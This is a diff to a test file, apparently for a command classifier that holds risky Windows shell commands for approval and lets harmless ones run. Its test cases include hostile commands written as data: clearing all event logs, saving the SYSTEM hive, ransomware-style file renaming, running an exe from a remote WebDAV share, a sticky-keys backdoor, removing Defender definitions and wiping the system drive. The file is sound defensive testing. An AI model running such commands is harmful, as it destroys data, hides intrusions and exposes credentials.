@@ -142,6 +142,9 @@ it.each<readonly [Shell, "held" | "silent", string]>([
   // Written for cmd.exe, handed to another shell.
   ["bash", "held", "copy /y C:\\Windows\\System32\\cmd.exe C:\\Windows\\System32\\sethc.exe"],
   ["bash", "silent", "C:\\tools\\nuget.exe restore C:\\src\\app.sln"],
+  ["bash", "held", "Get-EventLog -LogName * | ForEach { Clear-EventLog $_.Log }"],
+  ["bash", "silent", "Get-Process | Sort-Object CPU"],
+  ["bash", "held", "reg.exe save hklm\\system system.save"],
   ["powershell", "held", '"C:\\Program Files\\Windows Defender\\MpCmdRun.exe" -RemoveDefinitions -All'],
   ["powershell", "held", "rd /s /q %SystemDrive%\\"],
   ["powershell", "silent", '"C:\\Program Files\\nodejs\\npm.cmd" test'],
@@ -166,6 +169,10 @@ it.each<readonly [Shell, "held" | "silent", string]>([
   ["cmd", "silent", "copy \\\\buildserver\\drops\\app.zip ."],
   ["powershell", "held", "Remove-Item -Recurse -Force \\\\files\\team\\*"],
   ["cmd", "held", "del C:\\Windows\\System32\\drivers\\acme.sys"],
+  ["cmd", "silent", "copy C:\\Windows\\System32\\drivers\\etc\\hosts hosts.bak"],
+  ["cmd", "held", "ren C:\\Users\\dev\\Documents\\*.docx *.locked"],
+  ["cmd", "silent", "dir /s /b C:\\src\\*.pdf"],
+  ["cmd", "held", "\\\\203.0.113.8@SSL\\DavWWWRoot\\a.exe"],
   // The domain.
   ["cmd", "held", 'net group "Domain Admins" /domain'],
   ["cmd", "silent", "net user jdoe /domain"],
